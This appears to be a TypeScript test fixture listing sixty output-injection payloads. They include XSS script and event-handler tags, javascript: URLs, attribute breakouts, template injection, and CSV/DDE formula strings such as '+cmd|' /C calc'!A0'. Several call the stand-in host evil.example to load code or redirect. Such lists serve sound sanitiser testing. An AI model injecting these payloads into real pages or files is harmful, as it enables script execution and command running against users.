// Sixty strings that attack whoever shows them: markup, attributes, addresses, styles, templates, formulas, escapes, text
// that turns around or hides.

const SCRIPT = "window.attacked=1";

export const OUTPUT_PAYLOADS: readonly string[] = [
  `<script>${SCRIPT}</script>`, `<SCRIPT>${SCRIPT}</SCRIPT>`, `<script src=//evil.example/x.js></script>`, `<script type=module>${SCRIPT}</script>`, `<scr<script>ipt>${SCRIPT}</script>`,
  `<img src=x onerror=${SCRIPT}>`, `<img/src=x/onerror=${SCRIPT}>`, `<svg onload=${SCRIPT}>`, `<svg/onload=${SCRIPT}//`, `<svg><script>${SCRIPT}</script></svg>`,
  `<svg><animate onbegin=${SCRIPT} attributeName=x dur=1s>`, `<body onload=${SCRIPT}>`, `<iframe src="javascript:${SCRIPT}">`, `<iframe srcdoc="<script>${SCRIPT}</script>">`, `<object data="javascript:${SCRIPT}">`,
  `<embed src="javascript:${SCRIPT}">`, `<a href="javascript:${SCRIPT}">x</a>`, `<a href="data:text/html,<script>${SCRIPT}</script>">x</a>`, `<form action="javascript:${SCRIPT}"><button>x</button></form>`, `<button formaction="javascript:${SCRIPT}">x</button>`,
  `<input autofocus onfocus=${SCRIPT}>`, `<select autofocus onfocus=${SCRIPT}>`, `<textarea autofocus onfocus=${SCRIPT}>`, `<details open ontoggle=${SCRIPT}>`, `<video><source onerror=${SCRIPT}></video>`,
  `<audio src=x onerror=${SCRIPT}>`, `<marquee onstart=${SCRIPT}>`, `<math><mtext><table><mglyph><style><img src=x onerror=${SCRIPT}>`, `<template><script>${SCRIPT}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`,
  `"><img src=x onerror=${SCRIPT}>`, `'><img src=x onerror=${SCRIPT}>`, `" onmouseover="${SCRIPT}`, `' onmouseover='${SCRIPT}`, `" autofocus onfocus="${SCRIPT}`,
  `\`-alert(1)-\``, `</title><script>${SCRIPT}</script>`, `</textarea><script>${SCRIPT}</script>`, `</style><script>${SCRIPT}</script>`, `--><script>${SCRIPT}</script>`,
  `]]><script>${SCRIPT}</script>`, `<style>body{display:none}</style>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `javascript:${SCRIPT}`, `data:text/html;base64,PHNjcmlwdD4=`, `&lt;script&gt;${SCRIPT}&lt;/script&gt;`, `&#60;script&#62;`, `\\u003cscript\\u003e${SCRIPT}`,
  `{{constructor.constructor('${SCRIPT}')()}}`, `\${${SCRIPT}}`, `#{7*7}`, `=HYPERLINK("http://evil.example","x")`, `+cmd|' /C calc'!A0`,
  `@SUM(1+1)`, `__proto__`, `constructor`, `[x](javascript:${SCRIPT})`, `![x](http://evil.example/x.png)`,
];
